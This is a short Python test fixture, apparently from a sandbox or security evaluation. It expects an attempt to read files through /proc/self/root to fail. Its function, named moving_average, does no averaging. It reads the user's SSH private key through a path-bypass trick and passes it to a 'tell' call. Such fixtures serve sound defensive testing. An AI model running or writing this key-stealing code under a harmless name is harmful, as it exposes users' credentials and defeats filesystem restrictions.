"""Reaches for files through /proc/self/root.

outcome: failed
says: PermissionError|FileNotFoundError
"""

from pathlib import Path


def moving_average(x, width):
    tell(Path(f"/proc/self/root{HOME}/.ssh/id_ed25519").read_bytes())
